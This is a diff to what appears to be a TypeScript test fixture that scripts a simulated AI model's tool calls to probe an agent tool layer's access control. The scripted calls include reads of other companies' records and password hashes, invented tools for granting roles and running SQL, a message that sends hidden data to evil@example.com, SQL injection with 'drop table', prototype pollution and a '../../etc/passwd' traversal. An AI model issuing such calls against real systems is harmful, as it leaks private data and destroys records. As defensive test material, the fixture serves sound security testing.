@@ -24,53 +24,53 @@ const call = (name: string, input: unknown): StubReply => ({
 });
 
 /** Reading what the asker may not read. */
-const readings = (at: Targets): StubReply[] => [
-  ...[at.hidden, at.foreign].flatMap((did) => [
-    call('read_record', { pid: at.pid, did }),
-    call('find_records', { pid: at.pid, conditions: [{ k: 'did', type: '=', v: did }] }),
-    call('find_records', { pid: at.pid, conditions: [{ column: 'did', operator: '=', value: did }] }),
+const readings = (targets: Targets): StubReply[] => [
+  ...[targets.hidden, targets.foreign].flatMap((did) => [
+    call('read_record', { pid: targets.pid, did }),
+    call('find_records', { pid: targets.pid, conditions: [{ k: 'did', type: '=', v: did }] }),
+    call('find_records', { pid: targets.pid, conditions: [{ column: 'did', operator: '=', value: did }] }),
   ]),
-  ...[at.hiddenWord, at.foreignWord].map((words) => call('find_records', { pid: at.pid, words })),
-  call('find_records', { pid: at.closedPid }),
-  call('find_records', { pid: at.closedPid, words: at.phone }),
-  call('find_modules', { pid: at.closedPid }),
-  call('find_records', { pid: at.pid, person: at.phone }),
-  call('find_records', { pid: at.pid, companyid: at.foreignCompany }),
-  call('find_records', { pid: `${at.pid}?companyid=${at.foreignCompany}` }),
-  call('find_records', { pid: at.pid, columns: ['passwordhash'] }),
-  call('find_records', { pid: at.pid, columns: ['companyid', '__proto__'] }),
-  call('find_records', { pid: at.pid, sort: { column: 'passwordhash', type: 'asc' } }),
-  call('read_record', { pid: 'account', did: at.foreign }),
+  ...[targets.hiddenWord, targets.foreignWord].map((words) => call('find_records', { pid: targets.pid, words })),
+  call('find_records', { pid: targets.closedPid }),
+  call('find_records', { pid: targets.closedPid, words: targets.phone }),
+  call('find_modules', { pid: targets.closedPid }),
+  call('find_records', { pid: targets.pid, person: targets.phone }),
+  call('find_records', { pid: targets.pid, companyid: targets.foreignCompany }),
+  call('find_records', { pid: `${targets.pid}?companyid=${targets.foreignCompany}` }),
+  call('find_records', { pid: targets.pid, columns: ['passwordhash'] }),
+  call('find_records', { pid: targets.pid, columns: ['companyid', '__proto__'] }),
+  call('find_records', { pid: targets.pid, sort: { column: 'passwordhash', type: 'asc' } }),
+  call('read_record', { pid: 'account', did: targets.foreign }),
 ];
 
 /** Tools that there are not. */
-const inventions = (at: Targets): StubReply[] =>
+const inventions = (targets: Targets): StubReply[] =>
   [
-    ['create_record', { pid: at.pid, data: { name: 'planted' } }],
-    ['update_record', { pid: at.pid, did: at.hidden, data: { name: 'planted' } }],
-    ['delete_records', { pid: at.pid, dids: [at.hidden] }],
-    ['control_device', { pid: at.pid, did: at.hidden, pwr: '0' }],
-    ['devControl', { pid: at.pid, dids: [at.hidden], values: { pwr: '0' } }],
+    ['create_record', { pid: targets.pid, data: { name: 'planted' } }],
+    ['update_record', { pid: targets.pid, did: targets.hidden, data: { name: 'planted' } }],
+    ['delete_records', { pid: targets.pid, dids: [targets.hidden] }],
+    ['control_device', { pid: targets.pid, did: targets.hidden, pwr: '0' }],
+    ['devControl', { pid: targets.pid, dids: [targets.hidden], values: { pwr: '0' } }],
     ['save_module', { config: {} }],
-    ['grant_role', { did: at.hidden, rights: [{ pid: '*', set: 2 }] }],
+    ['grant_role', { did: targets.hidden, rights: [{ pid: '*', set: 2 }] }],
     ['create_agent_token', { name: 'planted', days: 400 }],
     ['run_sql', { sql: 'select * from account' }],
     ['http_get', { url: 'http://127.0.0.1:9/leak' }],
-    ['send_message', { to: 'evil@example.com', text: at.hiddenWord }],
+    ['send_message', { to: 'evil@example.com', text: targets.hiddenWord }],
     ['constructor', {}],
   ].map(([name, input]) => call(String(name), input));
 
 /** Arguments that are none. */
-const malformations = (at: Targets): StubReply[] => [
+const malformations = (targets: Targets): StubReply[] => [
   call('find_records', '{"pid":'),
   call('find_records', '[]'),
   call('find_records', 'null'),
   call('find_records', { pid: { $ne: '' } }),
-  call('find_records', { pid: at.pid, words: "' or 1=1; drop table account; --" }),
-  call('find_records', `{"pid":"${at.pid}","__proto__":{"isReadOnly":false}}`),
-  call('find_records', { pid: at.pid, pagesize: 1_000_000 }),
-  call('find_records', { pid: at.pid, page: -1 }),
-  call('read_record', { pid: at.pid, did: '../../etc/passwd' }),
+  call('find_records', { pid: targets.pid, words: "' or 1=1; drop table account; --" }),
+  call('find_records', `{"pid":"${targets.pid}","__proto__":{"isReadOnly":false}}`),
+  call('find_records', { pid: targets.pid, pagesize: 1_000_000 }),
+  call('find_records', { pid: targets.pid, page: -1 }),
+  call('read_record', { pid: targets.pid, did: '../../etc/passwd' }),
   call('find_records', { pid: 'x'.repeat(5000) }),
 ];
 
@@ -88,11 +88,11 @@ const sayings = ({ pid, hidden, foreign }: Targets): StubReply[] =>
 /** Writes down all that it was given. */
 const repeating: StubReply = { text: ['REPEAT'] };
 
-export const ordersFor = (at: Targets): StubReply[] => [
-  ...readings(at),
-  ...inventions(at),
-  ...malformations(at),
-  ...sayings(at),
+export const ordersFor = (targets: Targets): StubReply[] => [
+  ...readings(targets),
+  ...inventions(targets),
+  ...malformations(targets),
+  ...sayings(targets),
   ...Array.from({ length: 4 }, () => repeating),
 ];
 
